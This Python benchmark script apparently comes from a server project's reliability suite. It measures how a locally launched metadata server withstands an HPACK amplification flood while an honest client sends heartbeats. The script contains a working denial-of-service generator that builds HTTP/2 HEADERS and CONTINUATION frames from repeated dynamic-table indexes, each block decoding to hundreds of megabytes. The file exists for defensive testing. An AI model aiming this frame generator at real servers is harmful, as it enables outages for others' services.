"""Hardening round 7's HPACK amplification, measured (docs/RELIABILITY.md).

  python3 bench/hpack_flood.py --binary=build/server/metasrv \
      --pydir=build/gen_py [--seconds=60] [--rate_mb=4]

One attacking host (127.0.0.9) puts a 4 kB field in the server's HPACK
table, then sends header blocks (HEADERS + 8 CONTINUATION frames) holding
only that field's one-byte index, each block 147 kB that would decode to
~590 MB of fields; it reconnects whenever the server closes it. Beside it an
honest flownode on 127.0.0.1 heartbeats every 100 ms. Prints the server's
CPU per attacker MB and the honest heartbeats' p50 and p99.
"""

import argparse
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "tests", "wire"))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def literal(name, value):
    """A literal field without indexing, new name (7-bit lengths)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block_frames(stream, first):
    head = (literal(b":method", b"POST") + literal(b":scheme", b"http") +
            literal(b":path", b"/greptime.v1.meta.Cluster/Range") +
            literal(b":authority", b"x") +
            literal(b"content-type", b"application/grpc"))
    value = b"v" * 4000
    entry = b"\x40\x05x-big\x7f" + bytes([(4000 - 127) % 128 | 0x80,
                                           (4000 - 127) // 128]) + value
    index = b"\xbe" * 16000  # Dynamic index 62: the entry.
    out = frame(1, 0, stream, head + (entry if first else b"") + index)
    for i in range(8):
        out += frame(9, 4 if i == 7 else 0, stream, index)
    return out


def attacker(addr, stop, rate, sent):
    host, port = addr.rsplit(":", 1)
    while not stop.is_set():
        try:
            s = socket.create_connection((host, int(port)), timeout=2,
                                         source_address=("127.0.0.9", 0))
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            stream = 1
            while not stop.is_set():
                data = block_frames(stream, stream == 1)
                s.sendall(data)
                sent[0] += len(data)
                stream += 2
                time.sleep(len(data) / rate)
        except OSError:
            pass
        finally:
            try:
                s.close()
            except Exception:  # pylint: disable=broad-except
                pass


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--binary", required=True)
    parser.add_argument("--pydir", required=True)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--rate_mb", type=float, default=4)
    args = parser.parse_args()
    import harness
    import tonic_client
    harness.setup(args.binary, args.pydir)
    server = harness.Server()
    try:
        stop = threading.Event()
        sent = [0]
        cpu0 = harness.cpu_seconds(server.proc.pid)
        thread = threading.Thread(target=attacker, args=(
            server.addr, stop, args.rate_mb * 1e6, sent), daemon=True)
        thread.start()
        conn = tonic_client.Connection(server.addr)
        call = conn.open("/greptime.v1.meta.Heartbeat/Heartbeat")
        latencies = []
        end = time.monotonic() + args.seconds
        n = 0
        while time.monotonic() < end:
            n += 1
            start = time.monotonic()
            call.send(harness.report(77, [(1, n, n)]).SerializeToString())
            call.recv(timeout=5)
            latencies.append(time.monotonic() - start)
            time.sleep(0.1)
        stop.set()
        thread.join()
        cpu = harness.cpu_seconds(server.proc.pid) - cpu0
        conn.close()
        latencies.sort()
        mb = sent[0] / 1e6
        print(f"RESULT hpack_flood seconds={args.seconds:g} attacker_mb={mb:.1f} "
              f"server_cpu_s={cpu:.2f} cpu_s_per_mb={cpu / max(mb, 1e-9):.4f} "
              f"honest_p50_ms={latencies[len(latencies) // 2] * 1000:.1f} "
              f"honest_p99_ms={latencies[int(len(latencies) * 0.99)] * 1000:.1f} "
              f"heartbeats={len(latencies)}")
    finally:
        server.stop()


if __name__ == "__main__":
    main()
